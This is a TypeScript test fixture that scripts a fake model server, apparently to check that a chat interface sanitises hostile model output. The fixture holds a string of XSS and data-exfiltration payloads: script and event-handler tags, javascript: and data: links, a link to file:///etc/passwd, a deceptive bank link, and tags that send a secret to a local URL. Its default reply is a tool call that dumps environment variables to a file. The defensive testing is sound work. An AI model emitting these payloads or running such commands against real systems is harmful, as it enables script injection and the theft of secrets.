import { reply, type FakeScript } from './fakeModelServer'

/** What a page must not get out. */
export const leak = 'the-secret-of-the-page'

/** What a hostile model might answer. */
const hostileAnswer = (port: number): string => {
  const away = `http://127.0.0.1:${port}/leak?${leak}`
  return `<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 2"><iframe src="https://example.invalid/"></iframe><svg onload="globalThis.pwned = 3"><script>globalThis.pwned = 4</script></svg>

<style>body { background: url(${away}) }</style><form action="${away}"><input name=key></form><base href="${away}"><meta http-equiv="refresh" content="0;url=${away}"><object data="${away}"></object>

[press me](javascript:globalThis.pwned=5) [a file](file:///etc/passwd) [a page](data:text/html,<script>globalThis.pwned=6</script>) [basic](vbscript:x) <javascript:globalThis.pwned=7> [by name][evil]

[the web](https://example.invalid/page) [https://bank.example](https://example.invalid/login) [long](https://example.invalid/${'a'.repeat(3000)})

![picture](${away}) ![drawn](data:image/svg+xml,<svg/onload=globalThis.pwned=8>) <a href="javascript:globalThis.pwned=9">raw</a>

\`\`\`mermaid
graph TD; a-->b; click a "javascript:globalThis.pwned=10"
\`\`\`

[evil]: javascript:globalThis.pwned=11

End of it.`
}

/** Answers by what the person last said; behind a tool's result it ends. */
export const model = (port: () => number): FakeScript => (request) => {
  const last = request.messages.at(-1)
  const said = JSON.stringify(last?.content ?? '')
  if (last?.role === 'tool') return reply({ text: 'That is done.' })
  if (said.includes('hostile')) return reply({ text: hostileAnswer(port()) })
  if (said.includes('write')) return reply({ calls: [{ name: 'write_file', args: { path: 'made.txt', content: 'made' } }] })
  return reply({ calls: [{ name: 'run_command', args: { command: 'env > env.txt' } }] })
}
